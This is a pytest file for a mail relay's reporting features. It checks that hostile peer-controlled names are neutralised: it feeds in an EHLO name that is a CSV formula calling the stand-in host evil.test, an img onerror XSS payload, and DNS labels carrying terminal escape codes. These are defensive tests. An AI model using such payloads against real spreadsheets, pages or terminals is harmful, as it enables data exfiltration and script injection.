"""Names that a peer controls, in the report outputs: an EHLO name written as a spreadsheet formula or as markup that
would run in a browser (checked in headless chromium), and reverse
(PTR) and MX names with control characters in a DNS zone of the peer's own (served here by knotd). The CSV must
not hand a spreadsheet a formula, and `mailflowd report` must not print a name that is no host name (an escape
sequence reaches the administrator's terminal); the page and the JSON escape what they show."""
import csv
import html
import io
import json
import re
import shutil
import sys
import tempfile
import time
import types
from pathlib import Path

import pytest

import harness
import report_helpers as rh
import test_browser as tb

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "tools"))
from dns_server import KnotServer  # noqa: E402

GOOD, EVIL = "127.0.0.41", "127.0.0.42"
MX_ADDRESS = "127.0.0.64"
# \027 is ESC, \010 a line feed (RFC 1035 \DDD, decimal): a label that clears the screen and breaks the line.
BAD_LABEL = r"x\027\0912J\010y"
ZONE = f"""$ORIGIN example.net.
$TTL 300
@            SOA   ns hostmaster 1 3600 600 86400 300
@            NS    ns
ns           A     127.0.0.1
good         A     {GOOD}
{BAD_LABEL}  A     {EVIL}
badmx        MX    10 mx{BAD_LABEL}
mx{BAD_LABEL} A    {MX_ADDRESS}
"""
REVERSE = f"""$ORIGIN 0.0.127.in-addr.arpa.
$TTL 300
@            SOA   ns.example.net. hostmaster.example.net. 1 3600 600 86400 300
@            NS    ns.example.net.
41           PTR   good.example.net.
42           PTR   {BAD_LABEL}.example.net.
"""
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"x")'
# Markup that, were it not escaped, would run as the page loads and mark the document (seen in chromium's DOM).
MARKUP = "<img/src/onerror=document.body.id=/xss/.source>"


@pytest.fixture(scope="module")
def short_dir():
    path = tempfile.mkdtemp(prefix="mf-hos-")  # knotd's control socket path is limited to 107 bytes
    yield Path(path)
    shutil.rmtree(path, ignore_errors=True)


@pytest.fixture(scope="module")
def env(certs, short_dir, sink_factory, daemon_factory):
    knot = KnotServer(short_dir, {"example.net": ZONE, "0.0.127.in-addr.arpa": REVERSE}).start()
    try:
        port = harness.free_port(MX_ADDRESS)
        mx_sink = sink_factory("mx-bad", host=MX_ADDRESS, port=port)
        store = sink_factory("store")
        listeners = [
            {"name": "in", "address": f"127.0.0.1:{harness.free_port()}", "direction": "inbound",
             "tls": harness.listener_tls(certs), "upstream": "store"},
            {"name": "out", "address": f"127.0.0.1:{harness.free_port()}", "direction": "outbound",
             "upstream": "internet"},
        ]
        upstreams = [{"name": "store", "address": f"127.0.0.1:{store.port}", "tls": "none"},
                     {"name": "internet", "mx": True, "port": port, "tls": "opportunistic"}]
        connectors = [{"name": "partner-in", "type": "partner", "direction": "inbound",
                       "match": {"client_cidrs": ["127.0.0.40/30"]}}]
        daemon = daemon_factory(listeners, upstreams, connectors, name="hostile-names",
                                dns={"servers": [knot.address], "timeout": "2s"},
                                telemetry={"defaults": {"tls10_share": 0.05, "no_tls_share": 0.5, "min_messages": 1}})
        before = daemon.metrics()
        for local, ehlo, tls in ((GOOD, FORMULA, "tlsv1_2"), (EVIL, MARKUP, "tlsv1"), (EVIL, MARKUP, "tlsv1")):
            r = harness.swaks(daemon.listener_port("in"), sender="a@sender.test", data=rh.MESSAGE, local=local,
                              ehlo=ehlo, tls=tls)
            assert r.rc == 0, str(r)
        harness.wait_moved(daemon, before, at_least=3)
        # The MX host's name is no host name: no host to connect to (451, the sender tries again later).
        outbound = harness.swaks(daemon.listener_port("out"), to="rcpt@badmx.example.net", sender="app@corp.example",
                                 data=rh.MESSAGE)
        wait_named(daemon)
        yield daemon, mx_sink, outbound
    finally:
        knot.stop()


def remotes_rows(report):
    rows = [c for c in report["connectors"] if c["connector"] == "partner-in" and c["direction"] == "inbound"]
    return {r["address"]: r for r in rows[0]["remotes"]["rows"]}


def wait_named(daemon, timeout=15.0):
    """Once the reverse lookups (a background task) named the good client and looked up both: a moment more for
    the other's forward lookups."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        named = remotes_rows(rh.report_json(daemon)).get(GOOD, {}).get("verified_name")
        ptr = harness.value(daemon.metrics(), "mailflow_dns_lookups_total", type="PTR")
        if named and ptr >= 2:
            time.sleep(1.0)
            return
        time.sleep(0.2)


def control_characters(text):
    return [c for c in text if (ord(c) < 0x20 and c != "\n") or ord(c) == 0x7F]


def test_csv_cells_never_start_a_formula(env):
    daemon, _, _ = env
    status, body, _ = rh.http_get(daemon, "/api/v1/remotes.csv")
    assert status == 200
    rows = list(csv.DictReader(io.StringIO(body)))
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@")), (column, cell)
    good = [r for r in rows if r["address"] == GOOD]
    assert good and good[0]["name"] == "'" + FORMULA, body  # shown as text, nothing of it lost


def test_cli_prints_no_control_characters(env, mailflowd_bin):
    daemon, _, _ = env
    for args in (("--connector", "partner-in"), ("--connector", "internet"), ("--domains",), ()):
        res = rh.run_cli(mailflowd_bin, "--url", daemon.http, *args)
        assert res.returncode == 0, res.stderr
        assert not control_characters(res.stdout), (args, res.stdout)
    lines = [ln for ln in rh.run_cli(mailflowd_bin, "--url", daemon.http, "--connector", "partner-in").stdout
             .splitlines() if ln.startswith("127.0.0.")]
    assert [ln.split()[0] for ln in lines] == [EVIL, GOOD], lines


def test_a_name_that_is_no_host_name_is_not_verified_nor_connected_to(env):
    daemon, mx_sink, outbound = env
    rows = remotes_rows(rh.report_json(daemon))
    assert rows[GOOD]["verified_name"] == "good.example.net"
    assert rows[EVIL]["verified_name"] == "", rows[EVIL]
    assert mx_sink.count() == 0
    assert outbound.rc != 0 and "451 4.4.3" in outbound.out, str(outbound)


def test_markup_in_an_ehlo_name_does_not_run_in_a_browser(env, workdir):
    """The page in headless chromium, every drill-down opened: the EHLO name is text in its cell and in the
    insight's offender, and its onerror never ran (it would have set the body's id)."""
    browser = tb.chromium_path()
    if not browser:
        pytest.skip("chromium is not installed (deploy/dev/deps.sh test installs it)")
    daemon, _, _ = env
    status, page = daemon.get("/")
    assert status == 200
    # Opened, so that whatever is in a drill-down is parsed and loaded as the browser would once clicked.
    path = workdir / "hostile-page.html"
    path.write_text(page.replace("<details ", "<details open "))
    chromium = tb.Chromium(types.SimpleNamespace(browser=browser, workdir=workdir), "hostile")
    for url in (daemon.http + "/", path.as_uri()):
        dom = chromium.run("--dump-dom", "--virtual-time-budget=2000", url)
        assert "<html" in dom and "partner-in" in dom, dom[:500]
        body = re.search(r"<body[^>]*>", dom).group(0)
        assert "xss" not in body, (url, body)
        assert dom.count(html.escape(MARKUP, quote=False)) >= 2, url  # the cell and the insight, as text


def test_page_and_json_escape_what_they_show(env):
    daemon, _, _ = env
    status, page = daemon.get("/")
    assert status == 200
    assert MARKUP not in page and "&lt;img/src/onerror=document.body.id=/xss/.source&gt;" in page
    status, body, _ = rh.http_get(daemon, "/api/v1/report")
    assert status == 200
    assert remotes_rows(json.loads(body))[EVIL]["name"] == MARKUP


@pytest.fixture(scope="module")
def other_env(sink_factory, daemon_factory):
    """Outbound through a fixed upstream with room for one destination domain: a message to b.test, then two to a
    real domain named "other", which takes the one row; b.test's message is summed in the row of the rest."""
    store = sink_factory("store-other")
    listeners = [{"name": "out", "address": f"127.0.0.1:{harness.free_port()}", "direction": "outbound",
                  "upstream": "store"}]
    upstreams = [{"name": "store", "address": f"127.0.0.1:{store.port}", "tls": "none"}]
    daemon = daemon_factory(listeners, upstreams, [], name="domain-other", telemetry={"top_domains": 1})
    before = daemon.metrics()
    for to in ("rcpt@b.test", "rcpt@other", "rcpt@other"):
        r = harness.swaks(daemon.listener_port("out"), to=to, sender="app@corp.example", data=rh.MESSAGE)
        assert r.rc == 0, str(r)
    harness.wait_moved(daemon, before, at_least=3)
    return daemon


def test_a_domain_named_other_is_not_the_row_of_the_rest(other_env, mailflowd_bin):
    status, body, _ = rh.http_get(other_env, "/api/v1/domains.csv")
    assert status == 200
    rows = list(csv.DictReader(io.StringIO(body)))
    assert len(rows) == 2, body
    named = [r for r in rows if r["domain"] == "other"]
    assert len(named) == 1 and named[0]["none"] == "2", body  # the domain, not the rest
    rest = [r for r in rows if r["domain"] != "other"]
    assert rest[0]["none"] == "1" and rest[0]["domain"] != "b.test", body
    res = rh.run_cli(mailflowd_bin, "--url", other_env.http, "--domains")
    assert res.returncode == 0, res.stderr
    assert [ln.split()[1] for ln in res.stdout.splitlines() if ln.split()[:1] == ["other"]] == ["127.0.0.1"], \
        res.stdout  # the domain's row (its MX host column names the upstream), not also the rest's
    status, page = other_env.get("/")
    assert status == 200 and page.count("<td>other</td>") == 1, page[page.index('id="drilldown"'):]
